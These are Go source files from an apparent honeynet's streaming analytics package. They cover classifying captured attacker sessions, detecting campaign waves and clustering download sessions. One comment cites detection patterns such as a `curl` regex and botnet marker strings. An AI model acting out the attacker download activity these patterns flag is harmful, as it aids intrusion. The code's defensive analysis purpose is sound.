// BenchmarkBatchClassify measures the batch per-rule probe loop on the
// same corpus (memo bypassed: the memo answers repeats, not new text).
func BenchmarkBatchClassify(b *testing.B) {
	texts, _ := benchCorpus(b)
	c := classify.New()
	var bytes int64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		txt := texts[i%len(texts)]
		bytes += int64(len(txt))
		_ = c.ClassifyUncached(txt)
	}
	b.SetBytes(bytes / int64(b.N))
}

// BenchmarkLiveAssign measures online nearest-medoid assignment over
// download-session texts.
func BenchmarkLiveAssign(b *testing.B) {
	_, dls := benchCorpus(b)
	a := newAssigner(24, 192, 0.6, 0.25, 256, 1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		a.observe(dls[i%len(dls)])
	}
}
