package live

import (
	"math"
	"time"
)

// campaigns is the live wave detector: one fast/slow EWMA rate pair per
// classification category plus a fleet-wide total, driven by record
// timestamps (event time, so replayed history and live traffic behave
// identically). A category whose fast rate bursts past OnsetFactor ×
// its slow baseline opens a wave (the mdrfckr pattern of section 9); it
// closes, with hysteresis, when the fast rate falls back under
// OffsetFactor × baseline. The same comparison inverted on the
// fleet-wide total detects activity drops (the section 10 signal that
// found the honeynet's dead listeners).
type campaigns struct {
	fastTau float64 // seconds
	slowTau float64 // seconds
	onset   float64
	offset  float64
	minRate float64 // events/min a fast rate must reach before a wave can open
	maxLog  int

	cats  map[string]*catRate
	total catRate

	waves    []Wave // closed + active, bounded to maxLog
	active   int
	drop     bool // fleet-wide activity drop currently signaled
	dropsTot int64
}

// catRate is one category's rate state.
type catRate struct {
	count      int64
	fast, slow float64 // events per minute
	last       time.Time
	wave       int // index+1 into waves while a wave is open, else 0
}

// Wave is one detected burst of a category.
type Wave struct {
	Category string    `json:"category"`
	Start    time.Time `json:"start"`
	// End is the zero time while the wave is active.
	End time.Time `json:"end"`
	// Peak is the highest fast rate (events/min) seen during the wave.
	Peak float64 `json:"peak_per_min"`
	// Baseline is the slow rate at onset.
	Baseline float64 `json:"baseline_per_min"`
}

func newCampaigns(fastHalfLife, slowHalfLife time.Duration, onset, offset, minRate float64, maxLog int) *campaigns {
	// Half-life to exponential time constant: tau = t½ / ln 2.
	return &campaigns{
		fastTau: fastHalfLife.Seconds() / math.Ln2,
		slowTau: slowHalfLife.Seconds() / math.Ln2,
		onset:   onset,
		offset:  offset,
		minRate: minRate,
		maxLog:  maxLog,
		cats:    map[string]*catRate{},
	}
}

// decay advances an EWMA rate pair to t without folding in an event.
// Rates are events/min estimated by unit-mass exponential kernels.
func (c *campaigns) decay(r *catRate, t time.Time) {
	if !r.last.IsZero() {
		dt := t.Sub(r.last).Seconds()
		if dt < 0 {
			dt = 0 // out-of-order arrivals advance state, never rewind it
		}
		r.fast *= math.Exp(-dt / c.fastTau)
		r.slow *= math.Exp(-dt / c.slowTau)
	}
	r.last = t
}

// add folds one event into a rate pair already decayed to its time.
// One event adds 60/tau events-per-minute of kernel mass: the
// steady-state value of the estimator equals the true rate.
func (c *campaigns) add(r *catRate) {
	r.fast += 60 / c.fastTau
	r.slow += 60 / c.slowTau
	r.count++
}

// observe folds one classified session at event time t into the rate
// state and runs the onset/offset transitions. Caller holds the
// Pipeline lock.
//
// Quiet-side transitions — wave offset and activity-drop onset — are
// evaluated on the rates decayed to t but before this event's own
// kernel mass is added: a lone straggler after a long silence would
// otherwise refresh the fast rate past the threshold and mask exactly
// the gap it proves. Everything is event-time driven, so silence is
// only ever noticed when the next event arrives.
func (c *campaigns) observe(cat string, t time.Time) {
	r := c.cats[cat]
	if r == nil {
		r = &catRate{}
		c.cats[cat] = r
	}

	// Fleet-wide activity drop: a silence gap far longer than the slow
	// baseline's mean inter-arrival (1/slow minutes) predicts. Measured
	// against the pre-decay baseline — the rate as of when the silence
	// began.
	dropFired := false
	if !c.drop && c.total.count > 10 && c.total.slow > 0 && !c.total.last.IsZero() {
		if gap := t.Sub(c.total.last).Minutes(); gap > c.onset/c.total.slow {
			c.drop = true
			c.dropsTot++
			dropFired = true
		}
	}

	c.decay(r, t)
	c.decay(&c.total, t)

	// Wave offset on the pre-event fast rate, with hysteresis.
	if r.wave != 0 && r.fast < c.offset*r.slow {
		c.waves[r.wave-1].End = t
		r.wave = 0
		c.active--
	}

	c.add(r)
	c.add(&c.total)

	// Wave onset and peak tracking on the post-event fast rate.
	if r.wave == 0 {
		if r.fast >= c.minRate && r.count > 1 && r.fast > c.onset*r.slow {
			c.waves = append(c.waves, Wave{Category: cat, Start: t, Peak: r.fast, Baseline: r.slow})
			if len(c.waves) > c.maxLog {
				// Drop the oldest closed wave; open-wave indices shift.
				c.evictOldestClosed()
			}
			r.wave = c.waveIndex(cat) + 1
			c.active++
		}
	} else if w := &c.waves[r.wave-1]; r.fast > w.Peak {
		w.Peak = r.fast
	}

	// Drop recovery: traffic flowing again at a meaningful fraction of
	// its baseline. Never on the same event that proved the drop.
	if c.drop && !dropFired && c.total.fast > c.total.slow*c.offset {
		c.drop = false
	}
}

// waveIndex returns the index of the most recent wave for cat.
func (c *campaigns) waveIndex(cat string) int {
	for i := len(c.waves) - 1; i >= 0; i-- {
		if c.waves[i].Category == cat {
			return i
		}
	}
	return -1
}

// evictOldestClosed removes the oldest closed wave from the log,
// remapping the open waves' back-references.
func (c *campaigns) evictOldestClosed() {
	for i := range c.waves {
		if !c.waves[i].End.IsZero() {
			c.waves = append(c.waves[:i], c.waves[i+1:]...)
			for _, r := range c.cats {
				if r.wave > i {
					r.wave--
				}
			}
			return
		}
	}
}
