// Package live is the streaming analytics subsystem: it sits on the
// ingest path (the daemon's record sink, the collector's shard append
// loop) and maintains, incrementally, the state the batch analyzer
// computes offline — per-session classification (section 5),
// nearest-medoid cluster assignment (section 6), and campaign/wave
// detection (sections 9–10). One Pipeline, three engines, all safe for
// concurrent Observe calls, surfaced as honeynet_live_* metrics and the
// /live admin snapshot.
package live

import (
	"regexp"
	"sync"

	"honeynet/internal/classify"
)

// Matcher is the single-pass streaming classifier: the literal
// structure of every classify rule compiled into one Aho–Corasick
// automaton. Classifying a session costs one scan of its command text
// (collecting which literals occur) plus regex verification of only
// what the scan could not decide — instead of the batch path's 59
// independent substring probes followed by the full regex conjunction.
//
// Three facts make the output byte-identical to
// classify.Classifier.Classify while doing strictly less regex work:
//
//  1. A require regex whose match set is exactly one literal
//     (LiteralPrefix complete — the batch prefilter's source) is fully
//     decided by the automaton: hit ⟺ strings.Contains ⟺ MatchString.
//     The regex engine never runs for it.
//  2. A require regex with a derivable necessary-literal set (see
//     necessaryLits: `\bcurl\b` needs "curl", `(x0x0x0|xoxoxo)` needs
//     one of two spellings) is refuted for free when no member occurs;
//     only texts containing a member pay for the regex. The batch path
//     has no prefilter at all for these.
//  3. Everything else runs the rules' own compiled regexes, in rule
//     order, first match wins — exactly the batch conjunction.
//
// A Matcher is immutable after NewMatcher and safe for concurrent use.
type Matcher struct {
	ac      *acAutomaton
	progs   []ruleProg
	numPats int
	// hitsPool recycles the per-call hit flags so concurrent ingest
	// classifications stay allocation-free.
	hitsPool sync.Pool
}

// reqStep is one require regex's verification plan. When re is nil the
// step is a complete literal: lits holds the single pattern whose hit
// is equivalent to the regex matching. Otherwise lits (possibly empty)
// is a necessary-literal set: no hit among them refutes the regex
// without running it; a hit still requires running re.
type reqStep struct {
	re   *regexp.Regexp
	lits []int32
}

// excStep is one exclude regex: a non-empty lits set with no hits
// proves the exclusion cannot fire, skipping the regex.
type excStep struct {
	re   *regexp.Regexp
	lits []int32
}

// ruleProg is one rule's compiled probe: the prefilter-decidable
// structure plus the residual regex work.
type ruleProg struct {
	name string
	req  []reqStep
	exc  []excStep
}

// NewMatcher compiles the classifier's rule table into a streaming
// matcher. The classifier is retained only for its rule table; its memo
// is not shared.
func NewMatcher(c *classify.Classifier) *Matcher {
	rules := c.Rules()
	m := &Matcher{}
	b := newACBuilder()
	pats := map[string]int{}
	intern := func(lit string) int32 {
		id, ok := pats[lit]
		if !ok {
			id = len(pats)
			pats[lit] = id
			b.add(lit, id)
		}
		return int32(id)
	}
	internAll := func(lits []string) []int32 {
		if len(lits) == 0 {
			return nil
		}
		ids := make([]int32, len(lits))
		for i, l := range lits {
			ids[i] = intern(l)
		}
		return ids
	}
	for i := range rules {
		r := &rules[i]
		prog := ruleProg{name: r.Name}
		for _, re := range r.RequireRegexps() {
			if lit, complete := re.LiteralPrefix(); complete && lit != "" {
				prog.req = append(prog.req, reqStep{lits: []int32{intern(lit)}})
				continue
			}
			prog.req = append(prog.req, reqStep{re: re, lits: internAll(necessaryLits(re.String()))})
		}
		for _, re := range r.ExcludeRegexps() {
			prog.exc = append(prog.exc, excStep{re: re, lits: internAll(necessaryLits(re.String()))})
		}
		m.progs = append(m.progs, prog)
	}
	m.numPats = len(pats)
	m.ac = b.build()
	n := m.numPats
	m.hitsPool.New = func() any { return make([]bool, n) }
	return m
}

// Stats counts the probing work one classification did.
type Stats struct {
	// Candidates is how many rules survived the literal prefilter and
	// were regex-verified.
	Candidates int
	// Skipped is how many rules the automaton pass eliminated without
	// running any regex.
	Skipped int
}

// Classify returns the first matching category in rule order, or
// classify.Unknown — byte-identical to the batch classifier.
func (m *Matcher) Classify(text string) string {
	return m.ClassifyStats(text, nil)
}

// ClassifyStats is Classify with the per-call work counters written
// into st (when non-nil).
func (m *Matcher) ClassifyStats(text string, st *Stats) string {
	hits := m.hitsPool.Get().([]bool)
	clear(hits)
	m.ac.scan(text, hits)
	cat := classify.Unknown
	for i := range m.progs {
		p := &m.progs[i]
		if !p.candidate(hits) {
			if st != nil {
				st.Skipped++
			}
			continue
		}
		if st != nil {
			st.Candidates++
		}
		if p.verify(text, hits) {
			cat = p.name
			break
		}
	}
	m.hitsPool.Put(hits)
	return cat
}

// candidate reports whether the automaton pass left the rule possibly
// matching: every require step with a literal set saw at least one hit.
// (For complete-literal steps the single hit is also the full proof.)
func (p *ruleProg) candidate(hits []bool) bool {
	for _, s := range p.req {
		if len(s.lits) > 0 && !anyHit(hits, s.lits) {
			return false
		}
	}
	return true
}

// verify finishes a candidate probe: only the regexes the automaton
// could not decide actually run. Pure conjunction, so evaluation order
// relative to the batch path cannot change the result.
func (p *ruleProg) verify(text string, hits []bool) bool {
	for _, s := range p.req {
		if s.re != nil && !s.re.MatchString(text) {
			return false
		}
	}
	for _, s := range p.exc {
		if len(s.lits) > 0 && !anyHit(hits, s.lits) {
			continue // no necessary literal present: cannot exclude
		}
		if s.re.MatchString(text) {
			return false
		}
	}
	return true
}

func anyHit(hits []bool, ids []int32) bool {
	for _, id := range ids {
		if hits[id] {
			return true
		}
	}
	return false
}

// NumPatterns returns how many distinct literal prefilters the
// automaton tracks.
func (m *Matcher) NumPatterns() int { return m.numPats }

// acAutomaton is a dense-transition Aho–Corasick automaton over bytes.
// Node 0 is the root; next[s][b] is the goto-with-failure transition
// (precomputed, so the scan is one table load per input byte), and
// out[s] lists the pattern IDs ending at s (own plus inherited via the
// suffix links).
type acAutomaton struct {
	next [][256]int32
	out  [][]int32
}

// scan marks hits[id] = true for every pattern occurring in text.
func (a *acAutomaton) scan(text string, hits []bool) {
	s := int32(0)
	for i := 0; i < len(text); i++ {
		s = a.next[s][text[i]]
		for _, id := range a.out[s] {
			hits[id] = true
		}
	}
}

// acBuilder accumulates patterns into a trie, then build() closes it
// into the dense automaton (BFS failure links, merged outputs,
// goto-with-failure transitions).
type acBuilder struct {
	next [][256]int32
	out  [][]int32
}

func newACBuilder() *acBuilder {
	b := &acBuilder{}
	b.grow()
	return b
}

func (b *acBuilder) grow() int32 {
	b.next = append(b.next, [256]int32{})
	b.out = append(b.out, nil)
	return int32(len(b.next) - 1)
}

func (b *acBuilder) add(pat string, id int) {
	s := int32(0)
	for i := 0; i < len(pat); i++ {
		c := pat[i]
		if b.next[s][c] == 0 {
			b.next[s][c] = b.grow()
		}
		s = b.next[s][c]
	}
	b.out[s] = append(b.out[s], int32(id))
}

func (b *acBuilder) build() *acAutomaton {
	// BFS from the root: fail[child] = next[fail[parent]][c] (already a
	// closed transition for shallower nodes), outputs inherit from the
	// failure target, and zero transitions are redirected through the
	// failure state so scan never follows links at match time.
	fail := make([]int32, len(b.next))
	queue := make([]int32, 0, len(b.next))
	for c := 0; c < 256; c++ {
		if s := b.next[0][c]; s != 0 {
			queue = append(queue, s)
		}
	}
	for qi := 0; qi < len(queue); qi++ {
		s := queue[qi]
		f := fail[s]
		b.out[s] = append(b.out[s], b.out[f]...)
		for c := 0; c < 256; c++ {
			t := b.next[s][c]
			if t != 0 {
				fail[t] = b.next[f][c]
				queue = append(queue, t)
			} else {
				b.next[s][c] = b.next[f][c]
			}
		}
	}
	return &acAutomaton{next: b.next, out: b.out}
}
