package live

import (
	"math/rand"

	"honeynet/internal/cluster"
	"honeynet/internal/textdist"
)

// assigner is the online cluster-assignment engine: every observed
// download session is assigned to its nearest medoid under the hybrid
// token-DLD kernel (one row of kernel calls, most of them discarded by
// the multiset lower bound before any DP), per-cluster assignment
// distance is tracked as the drift signal, and when the mean silhouette
// over a reservoir sample decays past the floor the medoid set is
// rebuilt by a bounded K-medoids run over the reservoir.
//
// All state mutations happen under the Pipeline's lock (the interner,
// scratch, and reservoir RNG are not concurrency-safe); given a fixed
// seed and arrival order every decision — assignment, reservoir
// content, re-clustering — is deterministic.
type assigner struct {
	interner *textdist.Interner
	scratch  *textdist.Scratch
	rng      *rand.Rand

	maxClusters    int
	newClusterDist float64
	silhouetteMin  float64
	recheckEvery   int

	medoids []medoidState

	// reservoir is a uniform sample of the observed token streams
	// (algorithm R), the input to silhouette checks and re-clustering.
	reservoir []sampleItem
	seen      int64 // observations offered to the reservoir

	sinceCheck int
	silhouette float64 // last computed reservoir silhouette (NaN-free; 0 before first check)

	// counters (read under the Pipeline lock or via snapshot).
	assigned   int64
	pruned     int64 // medoid candidates discarded by the multiset lower bound
	kernel     int64 // full kernel evaluations
	reclusters int64
	checks     int64
}

// medoidState is one live cluster: its exemplar plus running
// assignment-distance drift.
type medoidState struct {
	text   string
	tokens []int32
	count  int64
	// sumDist accumulates assignment distances since the medoid was
	// (re)installed; sumDist/count is the drift signal surfaced on /live.
	sumDist float64
}

type sampleItem struct {
	text   string
	tokens []int32
}

func newAssigner(maxClusters, reservoir int, newClusterDist, silhouetteMin float64, recheckEvery int, seed int64) *assigner {
	return &assigner{
		interner:       textdist.NewInterner(),
		scratch:        textdist.NewScratch(),
		rng:            rand.New(rand.NewSource(seed)),
		maxClusters:    maxClusters,
		newClusterDist: newClusterDist,
		silhouetteMin:  silhouetteMin,
		recheckEvery:   recheckEvery,
		reservoir:      make([]sampleItem, 0, reservoir),
	}
}

// observe assigns one session text to a cluster, returning the cluster
// index and the assignment distance. Caller holds the Pipeline lock.
func (a *assigner) observe(text string) (int, float64) {
	tokens := a.interner.Intern(textdist.Tokenize(text))
	a.sample(text, tokens)

	best, bestDist := a.nearest(tokens)
	// A session far from every medoid founds a new cluster (leader
	// step) until the cap; past the cap it joins the nearest anyway.
	if (best < 0 || bestDist > a.newClusterDist) && len(a.medoids) < a.maxClusters {
		a.medoids = append(a.medoids, medoidState{text: text, tokens: tokens, count: 1})
		a.assigned++
		return len(a.medoids) - 1, 0
	}
	if best < 0 {
		return -1, 0 // no medoids and none allowed (MaxClusters 0)
	}
	m := &a.medoids[best]
	m.count++
	m.sumDist += bestDist
	a.assigned++

	a.sinceCheck++
	if a.recheckEvery > 0 && a.sinceCheck >= a.recheckEvery {
		a.sinceCheck = 0
		a.maybeRecluster()
	}
	return best, bestDist
}

// nearest returns the closest medoid index and its normalized distance,
// pruning with the O(la+lb) multiset lower bound: a medoid whose bound
// already meets the best distance so far cannot win, so the kernel
// never runs for it. Iteration is in medoid order, ties keep the first
// — deterministic for a fixed arrival order.
func (a *assigner) nearest(tokens []int32) (int, float64) {
	best, bestDist := -1, 0.0
	for i := range a.medoids {
		mt := a.medoids[i].tokens
		if best >= 0 {
			if lb := a.scratch.NormalizedLowerBoundIDs(tokens, mt); lb >= bestDist {
				a.pruned++
				continue
			}
		}
		d := a.scratch.NormalizedIDs(tokens, mt)
		a.kernel++
		if best < 0 || d < bestDist {
			best, bestDist = i, d
		}
	}
	return best, bestDist
}

// sample offers one observation to the reservoir (algorithm R).
func (a *assigner) sample(text string, tokens []int32) {
	a.seen++
	if len(a.reservoir) < cap(a.reservoir) {
		a.reservoir = append(a.reservoir, sampleItem{text: text, tokens: tokens})
		return
	}
	if cap(a.reservoir) == 0 {
		return
	}
	if j := a.rng.Int63n(a.seen); j < int64(len(a.reservoir)) {
		a.reservoir[j] = sampleItem{text: text, tokens: tokens}
	}
}

// maybeRecluster scores the current medoid set by mean silhouette over
// the reservoir and, when it has decayed past the floor, replaces the
// medoids with a bounded K-medoids run over the reservoir.
func (a *assigner) maybeRecluster() {
	n := len(a.reservoir)
	k := len(a.medoids)
	if n < 4 || k < 2 || k >= n {
		return
	}
	a.checks++
	m := cluster.NewMatrix(n)
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			m.Set(i, j, a.scratch.NormalizedIDs(a.reservoir[i].tokens, a.reservoir[j].tokens))
		}
	}
	// Label each reservoir point with its nearest current medoid; the
	// silhouette of that labeling over the reservoir matrix is the
	// drift score for the live medoid set.
	res := &cluster.Result{K: k, Assign: make([]int, n)}
	for i := 0; i < n; i++ {
		c, _ := a.nearest(a.reservoir[i].tokens)
		res.Assign[i] = c
	}
	a.silhouette = cluster.SilhouetteParallel(m, res, 1)
	if a.silhouette >= a.silhouetteMin {
		return
	}
	fresh, err := cluster.KMedoids(m, k, cluster.Config{Seed: 1, Workers: 1})
	if err != nil {
		return
	}
	medoids := make([]medoidState, 0, k)
	for _, idx := range fresh.Medoids {
		it := a.reservoir[idx]
		medoids = append(medoids, medoidState{text: it.text, tokens: it.tokens})
	}
	a.medoids = medoids
	a.reclusters++
	a.silhouette = cluster.SilhouetteParallel(m, fresh, 1)
}
